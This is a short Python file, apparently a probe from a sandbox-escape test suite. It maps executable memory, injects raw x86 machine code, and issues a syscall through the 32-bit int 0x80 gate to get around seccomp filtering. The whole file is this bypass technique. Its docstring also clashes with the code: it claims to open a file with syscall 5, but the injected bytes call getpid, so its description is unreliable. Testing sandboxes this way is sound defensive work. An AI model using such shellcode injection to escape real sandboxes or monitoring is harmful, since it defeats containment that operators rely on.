"""Opens a file by the 32-bit gate, where 5 means open and not fstat."""
# stopped by: seccomp
# machine: x86_64
# unguarded: may fail, where the kernel has no 32-bit gate

import ctypes

LIBC = ctypes.CDLL(None, use_errno=True)
READ_WRITE_EXECUTE, PRIVATE_ANONYMOUS_LOW = 7, 0x62
GETPID = bytes.fromhex("b814000000cd80c3")  # mov eax, 20; int 0x80; ret


def attack(judge):
    LIBC.mmap.restype = ctypes.c_void_p
    LIBC.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, *(ctypes.c_int,) * 3, ctypes.c_long)
    page = LIBC.mmap(None, 4096, READ_WRITE_EXECUTE, PRIVATE_ANONYMOUS_LOW, -1, 0)
    ctypes.memmove(page, GETPID, len(GETPID))
    result = ctypes.CFUNCTYPE(ctypes.c_int)(page)()
    if result <= 0:
        raise OSError(-result, "int 0x80")
    return "called by int 0x80"
